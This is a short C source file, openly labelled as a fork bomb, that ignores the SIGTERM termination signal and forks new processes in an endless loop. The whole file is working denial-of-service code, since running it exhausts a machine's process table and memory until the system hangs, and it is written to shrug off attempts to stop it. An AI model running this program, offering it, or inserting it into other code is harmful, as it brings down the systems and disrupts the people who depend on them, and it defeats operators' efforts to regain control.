// SPDX-License-Identifier: Apache-2.0
// A fork bomb: every process forks for ever, and does not mind being refused.
#include <signal.h>
#include <unistd.h>

int main(void) {
  signal(SIGTERM, SIG_IGN);
  for (;;) {
    fork();
  }
}
